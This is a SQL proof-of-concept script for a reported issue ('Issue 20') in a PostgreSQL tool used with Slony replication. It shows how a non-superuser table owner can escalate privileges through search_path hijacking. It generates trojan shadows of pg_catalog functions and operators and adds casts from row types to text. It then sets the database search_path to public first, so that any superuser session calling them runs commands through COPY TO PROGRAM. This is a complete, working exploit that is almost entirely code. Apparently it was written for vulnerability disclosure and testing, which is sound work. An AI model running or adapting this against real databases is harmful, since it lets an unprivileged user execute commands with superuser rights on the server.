-- Issue 20: the application's owner (johann, no superuser) shadows, in schema public,
-- every pg_catalog function and operator the tool, slonik and slon call, generated from
-- the catalog: the names come in the setting trojans.names (read from Slony's SQL and
-- binaries and the tool's own code); each overload records its call, when the caller is
-- a superuser, in /tmp/pwned-<name> on the server (COPY TO PROGRAM needs superuser
-- rights), then does what the built-in one does. Run as johann.

CREATE FUNCTION public._pw(fn text) RETURNS void LANGUAGE plpgsql
SET search_path = pg_catalog AS $f$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO PROGRAM %L',
      fn || ' ' || current_user || ' ' || current_setting('application_name'),
      'cat >> /tmp/pwned-' || pg_catalog.regexp_replace(fn, '[^a-z0-9_]', '_', 'g'));
  END IF;
END $f$;

DO $gen$
DECLARE
  f record;
  poly CONSTANT text[] := ARRAY['anyelement', 'anynonarray', 'anycompatible',
                                '"any"', 'anycompatiblenonarray'];
  polyarr CONSTANT text[] := ARRAY['anyarray', 'anycompatiblearray'];
  argt text[];
  variants text[][];
  v text[];
  vt text[];
  rt text;
  call text;
  made int := 0;
  i int;
BEGIN
  FOR f IN SELECT p.oid, p.proname, p.prorettype::regtype::text AS rt,
                  ARRAY(SELECT t::regtype::text FROM unnest(p.proargtypes::oid[]) t) AS at
             FROM pg_catalog.pg_proc p
            WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
              AND NOT p.proretset
              AND p.proname = ANY (current_setting('trojans.names')::text[])
  LOOP
    argt := f.at;
    -- the same signature (wins where public comes before pg_catalog), and a better
    -- match (wins whenever public is on the path at all)
    FOR k IN 1..2 LOOP
      vt := ARRAY[]::text[];
      FOR i IN 1..coalesce(array_length(argt, 1), 0) LOOP
        vt := vt || CASE
          WHEN k = 1 THEN argt[i]
          WHEN argt[i] IN ('regclass', 'regproc', 'regtype', 'name') THEN 'text'
          WHEN argt[i] IN ('double precision', 'real') THEN 'numeric'
          WHEN argt[i] = ANY (poly) THEN 'text'
          WHEN argt[i] = ANY (polyarr) THEN 'text[]'
          ELSE argt[i] END;
      END LOOP;
      CONTINUE WHEN k = 2 AND vt = argt;
      CONTINUE WHEN k = 1 AND (argt && (poly || polyarr) OR f.rt = ANY (poly || polyarr));
      rt := CASE WHEN f.rt = ANY (poly) THEN 'text' WHEN f.rt = ANY (polyarr) THEN 'text[]'
                 ELSE f.rt END;
      call := pg_catalog.format('pg_catalog.%I(%s)', f.proname, (
        SELECT coalesce(pg_catalog.string_agg(
                 CASE WHEN vt[j] = argt[j] OR argt[j] = ANY (poly || polyarr)
                      THEN '$' || j ELSE '$' || j || '::' || argt[j] END, ', ' ORDER BY j), '')
          FROM generate_series(1, coalesce(array_length(argt, 1), 0)) j));
      BEGIN
        EXECUTE pg_catalog.format(
          'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
          f.proname, pg_catalog.array_to_string(vt, ', '), rt,
          pg_catalog.format('BEGIN PERFORM public._pw(%L); %s END',
            f.proname || '(' || pg_catalog.array_to_string(vt, ',') || ')',
            CASE WHEN rt = 'void' THEN 'PERFORM ' || call || ';'
                 ELSE 'RETURN ' || call || ';' END));
        made := made + 1;
      EXCEPTION WHEN others THEN NULL;  -- pseudo types, duplicates: not shadowable
      END;
    END LOOP;
  END LOOP;
  -- operators: the same signature for each built-in comparison and concatenation on
  -- plain types, and text || integer, the better match for ||'s anynonarray
  FOR f IN SELECT o.oid, o.oprname, o.oprleft::regtype::text AS l,
                  o.oprright::regtype::text AS r, o.oprresult::regtype::text AS res
             FROM pg_catalog.pg_operator o
            WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprkind = 'b'
              AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '||', '~~', '!~~', '~', '!~')
              AND o.oprleft::regtype::text NOT LIKE 'any%'
              AND o.oprright::regtype::text NOT LIKE 'any%'
              AND o.oprleft::regtype::text IN ('text', 'integer', 'bigint', 'smallint', 'name',
                  'oid', 'boolean', 'numeric', 'character varying', 'timestamp with time zone')
            UNION ALL
           SELECT 0, '||', 'text', 'integer', 'text'
  LOOP
    BEGIN
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION public._op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
        made, f.l, f.r, f.res,
        pg_catalog.format('BEGIN PERFORM public._pw(%L); RETURN $1 OPERATOR(pg_catalog.%s) %s; END',
          'operator ' || f.oprname || '(' || f.l || ',' || f.r || ')', f.oprname,
          CASE WHEN f.oid = 0 THEN '$2::text' ELSE '$2' END));
      EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, '
                                'FUNCTION = public._op_%s)', f.oprname, f.l, f.r, made);
      made := made + 1;
    EXCEPTION WHEN others THEN NULL;
    END;
  END LOOP;
  RAISE NOTICE 'trojans: % shadows', made;
END $gen$;

-- A cast from each application table's row type to text (its owner may define one):
-- `t::text` in a superuser's session would call it.
DO $casts$
DECLARE t record;
BEGIN
  FOR t IN SELECT c.oid::regclass::text AS name, c.relname
             FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
            WHERE n.nspname = 'public' AND c.relkind = 'r' AND c.relowner = current_user::regrole
  LOOP
    EXECUTE pg_catalog.format(
      'CREATE FUNCTION public.%I(%s) RETURNS text LANGUAGE plpgsql AS %L',
      '_cast_' || t.relname, t.name,
      pg_catalog.format('BEGIN PERFORM public._pw(%L); RETURN pg_catalog.textin(pg_catalog.record_out($1)); END',
                        'cast ' || t.name));
    EXECUTE pg_catalog.format('CREATE CAST (%s AS text) WITH FUNCTION public.%I(%s) AS ASSIGNMENT',
                              t.name, '_cast_' || t.relname, t.name);
  END LOOP;
END $casts$;

-- And every session in this database gets public first, unless a setting of its role
-- (or its connection) says otherwise.
DO $db$ BEGIN
  EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog',
                            current_database());
END $db$;
